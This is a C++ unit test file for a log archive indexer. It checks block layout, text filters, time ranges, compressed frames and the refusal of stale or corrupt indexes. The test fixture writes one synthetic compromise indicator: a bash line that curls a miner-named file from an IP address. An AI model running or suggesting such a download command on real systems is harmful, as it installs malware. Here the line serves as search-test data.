#include "outputs/archive_index.h"

#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <sstream>

#include "outputs/retention.h"
#include "tests/testing/temp_dir.h"

namespace konseki::outputs {
namespace {

namespace fs = std::filesystem;

class ArchiveIndexTest : public ::testing::Test {
 protected:
  void SetUp() override {
    ASSERT_FALSE(tmp_.path().empty());
    // 300 lines a minute apart; one IOC line (line 200) and one short line.
    std::ostringstream body;
    for (int i = 0; i < 300; ++i) {
      char ts[40];
      std::snprintf(ts, sizeof(ts), "2025-12-01T%02d:%02d:00.000000Z", i / 60, i % 60);
      body << ts << " 192.0.2.1 <38>sshd[" << 100 + i << "]: Failed password for root from 10.0.0."
           << i % 250 << " port 22\n";
      if (i == 200) body << ts << " 192.0.2.1 <38>bash: curl http://203.0.113.77/KDEVTMPFSI\n";
      if (i == 250) body << "torn piece\n";
    }
    body_ = body.str();
    plain_ = tmp_.Write("2025-12-01.log", body_);
  }

  ArchiveIndex Load(const std::string& path) {
    auto idx = ArchiveIndex::Load(path);
    EXPECT_TRUE(idx.ok()) << idx.status().ToString();
    return idx.ok() ? std::move(idx).value() : ArchiveIndex();
  }
  // Blocks (by their plaintext) that may contain text.
  static int Holding(const ArchiveIndex& idx, std::string_view text) {
    int n = 0;
    for (const IndexBlock& b : idx.blocks()) n += b.MayContain(text);
    return n;
  }

  konseki::testing::TempDir tmp_;
  std::string plain_, body_;
};

TEST_F(ArchiveIndexTest, PlainBlocksAreWholeLinesTilingTheFile) {
  ASSERT_TRUE(ArchiveIndex::Build(plain_, 2000).ok());
  const ArchiveIndex idx = Load(plain_);
  ASSERT_GT(idx.blocks().size(), 10u);
  uint64_t end = 0;
  for (const IndexBlock& b : idx.blocks()) {
    EXPECT_EQ(b.offset, end);
    EXPECT_EQ(b.size, b.plain_bytes);
    if (&b != &idx.blocks().back()) {
      EXPECT_GE(b.size, 2000u);
    }
    end = b.offset + b.size;
    EXPECT_EQ(body_[end - 1], '\n');
  }
  EXPECT_EQ(end, body_.size());
  EXPECT_GT(idx.index_bytes(), 0u);
}

// `konseki index` run by root on the daemon's archive: the index is the day
// file's user's and group's, so the group that searches can read it (scen14
// prod 3: root:root 0640, and search fell back to scanning every file).
TEST_F(ArchiveIndexTest, BuiltByRootTheIndexTakesTheDayFilesOwner) {
  if (geteuid() != 0) GTEST_SKIP() << "needs root (as CI runs)";
  ASSERT_EQ(chown(plain_.c_str(), 4242, 4343), 0);
  ASSERT_TRUE(ArchiveIndex::Build(plain_, 2000).ok());
  struct stat st;
  ASSERT_EQ(stat((plain_ + std::string(kIndexSuffix)).c_str(), &st), 0);
  EXPECT_EQ(st.st_uid, 4242u);
  EXPECT_EQ(st.st_gid, 4343u);
  EXPECT_EQ(st.st_mode & 0777, 0640u);
  EXPECT_TRUE(ArchiveIndex::Load(plain_).ok());
}

TEST_F(ArchiveIndexTest, FiltersTellWhichBlocksMayHoldAText) {
  ASSERT_TRUE(ArchiveIndex::Build(plain_, 2000).ok());
  const ArchiveIndex idx = Load(plain_);
  const int blocks = static_cast<int>(idx.blocks().size());
  EXPECT_EQ(Holding(idx, "failed password"), blocks);
  EXPECT_EQ(Holding(idx, "FAILED Password"), blocks);  // ASCII case does not matter
  EXPECT_EQ(Holding(idx, "kdevtmpfsi"), 1);
  EXPECT_EQ(Holding(idx, "203.0.113.77"), 1);  // 5-grams: digit trigrams are everywhere
  EXPECT_EQ(Holding(idx, "no such words here"), 0);
  EXPECT_EQ(Holding(idx, "caf\xc3\xa9"), blocks);  // not ASCII: always may
}

TEST_F(ArchiveIndexTest, TimeRangeOfEachBlock) {
  ASSERT_TRUE(ArchiveIndex::Build(plain_, 2000).ok());
  const ArchiveIndex idx = Load(plain_);
  const IndexBlock& first = idx.blocks().front();
  EXPECT_EQ(first.min_time, "2025-12-01T00:00:00.000000Z");
  EXPECT_FALSE(first.short_lines);
  EXPECT_TRUE(first.MayOverlap("", ""));
  EXPECT_TRUE(first.MayOverlap("2025-12-01T00:00:00.000000Z", "2025-12-01T00:00:00.000001Z"));
  EXPECT_FALSE(first.MayOverlap("2025-12-01T04:00:00.000000Z", ""));
  EXPECT_FALSE(first.MayOverlap("", "2025-12-01T00:00:00.000000Z"));
  int short_blocks = 0;
  for (const IndexBlock& b : idx.blocks()) short_blocks += b.short_lines;
  EXPECT_EQ(short_blocks, 1);  // the torn piece: never skipped by time
}

TEST_F(ArchiveIndexTest, CompressedBlocksEndWithFramesAtLineEnds) {
  const std::string z = plain_ + ".zst";
  ASSERT_TRUE(CompressFile(plain_, z, 3, 3000).ok());
  ASSERT_TRUE(ArchiveIndex::Build(z).ok());
  const ArchiveIndex idx = Load(z);
  ASSERT_GT(idx.blocks().size(), 5u);
  uint64_t plain = 0, end = 0;
  for (const IndexBlock& b : idx.blocks()) {
    EXPECT_EQ(b.offset, end);
    end += b.size;
    plain += b.plain_bytes;
    EXPECT_EQ(body_[plain - 1], '\n');
  }
  EXPECT_EQ(plain, body_.size());
  EXPECT_EQ(end, fs::file_size(z));
  EXPECT_EQ(Holding(idx, "kdevtmpfsi"), 1);
}

TEST_F(ArchiveIndexTest, MissingStaleAndCorruptIndexesAreRefused) {
  EXPECT_EQ(ArchiveIndex::Load(plain_).status().code(), StatusCode::kNotFound);
  EXPECT_FALSE(ArchiveIndex::LooksCurrent(plain_));
  ASSERT_TRUE(ArchiveIndex::Build(plain_).ok());
  EXPECT_TRUE(ArchiveIndex::LooksCurrent(plain_));
  struct stat st;
  ASSERT_EQ(stat(plain_.c_str(), &st), 0);
  auto expect_refused = [&](const char* why) {
    auto idx = ArchiveIndex::Load(plain_);
    ASSERT_FALSE(idx.ok());
    EXPECT_NE(idx.status().message().find(why), std::string::npos) << idx.status().ToString();
  };
  // Same size and mtime, other bytes: the content hash tells.
  {
    std::fstream f(plain_, std::ios::in | std::ios::out | std::ios::binary);
    f.seekp(100);
    f.put('#');
  }
  const timespec times[2] = {st.st_atim, st.st_mtim};
  ASSERT_EQ(utimensat(AT_FDCWD, plain_.c_str(), times, 0), 0);
  EXPECT_TRUE(ArchiveIndex::LooksCurrent(plain_));  // the cheap check cannot see it
  expect_refused("stale index");
  expect_refused("content changed");
  std::ofstream(plain_, std::ios::app) << "one more line\n";
  expect_refused("size changed");
  EXPECT_FALSE(ArchiveIndex::LooksCurrent(plain_));
  ASSERT_TRUE(ArchiveIndex::Build(plain_).ok());
  ASSERT_TRUE(ArchiveIndex::Load(plain_).ok());
  const timespec later[2] = {st.st_atim, {st.st_mtim.tv_sec + 5, 0}};
  ASSERT_EQ(utimensat(AT_FDCWD, plain_.c_str(), later, 0), 0);
  expect_refused("mtime changed");
  ASSERT_TRUE(ArchiveIndex::Build(plain_).ok());
  const std::string idx_path = plain_ + std::string(kIndexSuffix);
  {
    std::fstream f(idx_path, std::ios::in | std::ios::out | std::ios::binary);
    f.seekp(200);
    f.put('\x55');
  }
  expect_refused("corrupt index");
  fs::resize_file(idx_path, 40);
  expect_refused("corrupt index");
  std::ofstream(idx_path) << "hello";
  expect_refused("not a konseki index");
  std::ofstream(idx_path) << "KSIDX001" << std::string(200, '\0');  // the first format
  expect_refused("another format version (001");
  EXPECT_FALSE(ArchiveIndex::LooksCurrent(plain_));  // retention rewrites it
}

TEST_F(ArchiveIndexTest, ACopyWithTheSameContentAndMtimeKeepsItsIndex) {
  ASSERT_TRUE(ArchiveIndex::Build(plain_).ok());
  struct stat st;
  ASSERT_EQ(stat(plain_.c_str(), &st), 0);
  // A restore (cp -a): new inode and ctime, same bytes and mtime. The
  // content check runs (the ctime differs) and passes.
  const std::string copy = tmp_.File("copy.log");
  fs::copy_file(plain_, copy);
  fs::copy_file(plain_ + std::string(kIndexSuffix), copy + std::string(kIndexSuffix));
  fs::remove(plain_);
  fs::rename(copy, plain_);
  fs::rename(copy + std::string(kIndexSuffix), plain_ + std::string(kIndexSuffix));
  const timespec times[2] = {st.st_atim, st.st_mtim};
  ASSERT_EQ(utimensat(AT_FDCWD, plain_.c_str(), times, 0), 0);
  EXPECT_EQ(Holding(Load(plain_), "kdevtmpfsi"), 1);
  // The same restore with one byte changed in the first 64 KiB is stale.
  {
    std::fstream f(plain_, std::ios::in | std::ios::out | std::ios::binary);
    f.seekp(5);
    f.put('9');
  }
  ASSERT_EQ(utimensat(AT_FDCWD, plain_.c_str(), times, 0), 0);
  auto idx = ArchiveIndex::Load(plain_);
  ASSERT_FALSE(idx.ok());
  EXPECT_NE(idx.status().message().find("content changed"), std::string::npos);
}

TEST_F(ArchiveIndexTest, ACorruptFilterPageIsFoundWhenProbedAndSkipsNoBlock) {
  // 20,000 lines of varied numbers: filters of many pages.
  {
    std::ofstream f(plain_, std::ios::app);
    for (int i = 0; i < 20000; ++i) {
      f << "2025-12-01T05:00:00.000000Z 192.0.2.1 <38>sshd[" << i * 7919 % 100003
        << "]: Connection from 10." << i % 251 << "." << i * 31 % 253 << ".7 port "
        << i * 13 % 65521 << "\n";
    }
  }
  ASSERT_TRUE(ArchiveIndex::Build(plain_).ok());
  const std::string idx_path = plain_ + std::string(kIndexSuffix);
  {
    const ArchiveIndex idx = Load(plain_);
    EXPECT_EQ(Holding(idx, "kdevtmpfsi"), 1);
    EXPECT_EQ(Holding(idx, "no such words here"), 0);
    EXPECT_TRUE(idx.corruption().empty());
    // Only the header and the pages the probes touched were read.
    EXPECT_GT(idx.index_bytes(), 8 * 4096u);
    EXPECT_LT(idx.bytes_read(), idx.index_bytes() / 2);
    EXPECT_GT(idx.bytes_read(), 4096u);
  }
  // The filters start after the header's page(s): zero them all, so that
  // unchecked, every text would look absent from every block.
  const size_t size = fs::file_size(idx_path);
  {
    std::fstream f(idx_path, std::ios::in | std::ios::out | std::ios::binary);
    f.seekp(4096);
    f << std::string(size - 4096, '\0');
  }
  const ArchiveIndex idx = Load(plain_);  // the header is intact
  const int blocks = static_cast<int>(idx.blocks().size());
  EXPECT_EQ(blocks, 1);
  EXPECT_EQ(Holding(idx, "kdevtmpfsi"), blocks);
  EXPECT_EQ(Holding(idx, "no such words here"), blocks);
  EXPECT_NE(idx.corruption().find("fails its checksum"), std::string::npos) << idx.corruption();
}

TEST_F(ArchiveIndexTest, BadCompressedDataFailsTheBuild) {
  const std::string z = plain_ + ".zst";
  ASSERT_TRUE(CompressFile(plain_, z, 3).ok());
  fs::resize_file(z, fs::file_size(z) - 10);
  EXPECT_FALSE(ArchiveIndex::Build(z).ok());
  EXPECT_FALSE(fs::exists(z + std::string(kIndexSuffix)));
}

}  // namespace
}  // namespace konseki::outputs
